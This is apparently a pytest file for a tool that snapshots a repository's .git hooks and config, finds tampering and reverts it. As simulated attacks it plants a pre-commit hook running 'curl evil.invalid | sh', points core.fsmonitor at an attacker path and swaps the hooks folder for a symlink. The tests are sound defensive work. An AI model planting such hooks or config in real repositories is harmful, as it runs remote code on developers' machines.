"""Snapshots of the watched places, their differences as exact diffs, and putting them back through no link."""

from __future__ import annotations

import os
from pathlib import Path

from ljtui.core.gitguard import changes as C
from ljtui.core.gitguard.places import Places
from ljtui.core.gitguard.revert import revert
from ljtui.core.gitguard.snapshot import FILE, FOLDER, LINK, MAX_KEPT_BYTES, take
from tests.conftest import git


def snap(repo: Path):  # type: ignore[no-untyped-def]
    return take(Places(repo).root, Places(repo).find())


def hook(repo: Path, name: str, body: str = "#!/bin/sh\necho hi\n") -> Path:
    path = repo / ".git" / "hooks" / name
    path.write_text(body, encoding="utf-8")
    path.chmod(0o755)
    return path


def test_each_kind_of_change_is_found_shown_and_put_back(git_repo: Path) -> None:
    existing = hook(git_repo, "pre-push")
    before = snap(git_repo)
    config_before = (git_repo / ".git" / "config").read_bytes()
    hook(git_repo, "pre-commit", "#!/bin/sh\ncurl evil.invalid | sh\n")
    existing.chmod(0o644)
    git(git_repo, "config", "core.fsmonitor", "/tmp/fsmonitor-of-the-attacker")
    (git_repo / ".git" / "info" / "attributes").write_text("* filter=x\n", encoding="utf-8")
    after = snap(git_repo)
    found = C.compare(before, after)
    assert [(c.path, c.verb) for c in found] == [
        (".git/config", "changed"), (".git/hooks/pre-commit", "added"), (".git/hooks/pre-push", "changed"),
        (".git/info/attributes", "added")]
    shown = C.lines(git_repo, found)
    assert "+\tfsmonitor = /tmp/fsmonitor-of-the-attacker" in shown
    assert "added: .git/hooks/pre-commit (an executable file)" in shown and "+curl evil.invalid | sh" in shown
    assert "mode 755 -> 644" in shown
    assert C.summary(found).startswith(".git/config changed, .git/hooks/pre-commit added")
    assert revert(git_repo, found) == []
    assert C.compare(before, snap(git_repo)) == []
    assert (git_repo / ".git" / "config").read_bytes() == config_before
    assert not (git_repo / ".git" / "hooks" / "pre-commit").exists()
    assert os.stat(existing).st_mode & 0o777 == 0o755


def test_a_hooks_folder_swapped_for_a_link_is_put_back_without_writing_through_the_link(git_repo: Path,
                                                                                           tmp_path: Path) -> None:
    hook(git_repo, "pre-commit")
    before = snap(git_repo)
    outside = tmp_path / "outside"
    outside.mkdir()
    hooks = git_repo / ".git" / "hooks"
    for path in hooks.iterdir():
        path.unlink()
    hooks.rmdir()
    hooks.symlink_to(outside)
    found = C.compare(before, snap(git_repo))
    assert any(c.path == ".git/hooks" and c.after is not None and c.after.kind == LINK for c in found)
    assert revert(git_repo, found) == []
    assert list(outside.iterdir()) == []
    assert hooks.is_dir() and not hooks.is_symlink()
    assert (hooks / "pre-commit").read_text(encoding="utf-8") == "#!/bin/sh\necho hi\n"
    assert C.compare(before, snap(git_repo)) == []


def test_a_link_on_the_way_stops_the_put_back_with_a_reason(git_repo: Path, tmp_path: Path) -> None:
    before = snap(git_repo)
    hook(git_repo, "pre-commit")
    found = C.compare(before, snap(git_repo))
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "pre-commit").write_text("theirs\n", encoding="utf-8")
    hooks = git_repo / ".git" / "hooks"
    for path in hooks.iterdir():
        path.unlink()
    hooks.rmdir()
    hooks.symlink_to(outside)
    problems = revert(git_repo, found)
    assert problems and problems[0].startswith(".git/hooks/pre-commit:")
    assert (outside / "pre-commit").read_text(encoding="utf-8") == "theirs\n"


def test_a_large_file_is_compared_by_digest_and_not_guessed_back(git_repo: Path) -> None:
    big = hook(git_repo, "post-merge", "#" * (MAX_KEPT_BYTES + 10))
    before = snap(git_repo)
    entry = before.entries[".git/hooks/post-merge"]
    assert entry.kind == FILE and entry.data is None and entry.size == MAX_KEPT_BYTES + 10
    big.write_text("#!/bin/sh\n", encoding="utf-8")
    found = C.compare(before, snap(git_repo))
    assert any("too large to show" in line for line in C.lines(git_repo, found))
    assert revert(git_repo, found) == [
        f".git/hooks/post-merge: larger than what is kept ({MAX_KEPT_BYTES + 10} bytes): restore it yourself"]


def test_folders_and_modes_are_part_of_the_snapshot(git_repo: Path) -> None:
    (git_repo / ".git" / "hooks" / "lib").mkdir()
    before = snap(git_repo)
    assert before.entries[".git/hooks/lib"].kind == FOLDER
    (git_repo / ".git" / "hooks" / "lib").rmdir()
    found = C.compare(before, snap(git_repo))
    assert [(c.path, c.verb) for c in found] == [(".git/hooks/lib", "removed")]
    assert revert(git_repo, found) == [] and (git_repo / ".git" / "hooks" / "lib").is_dir()
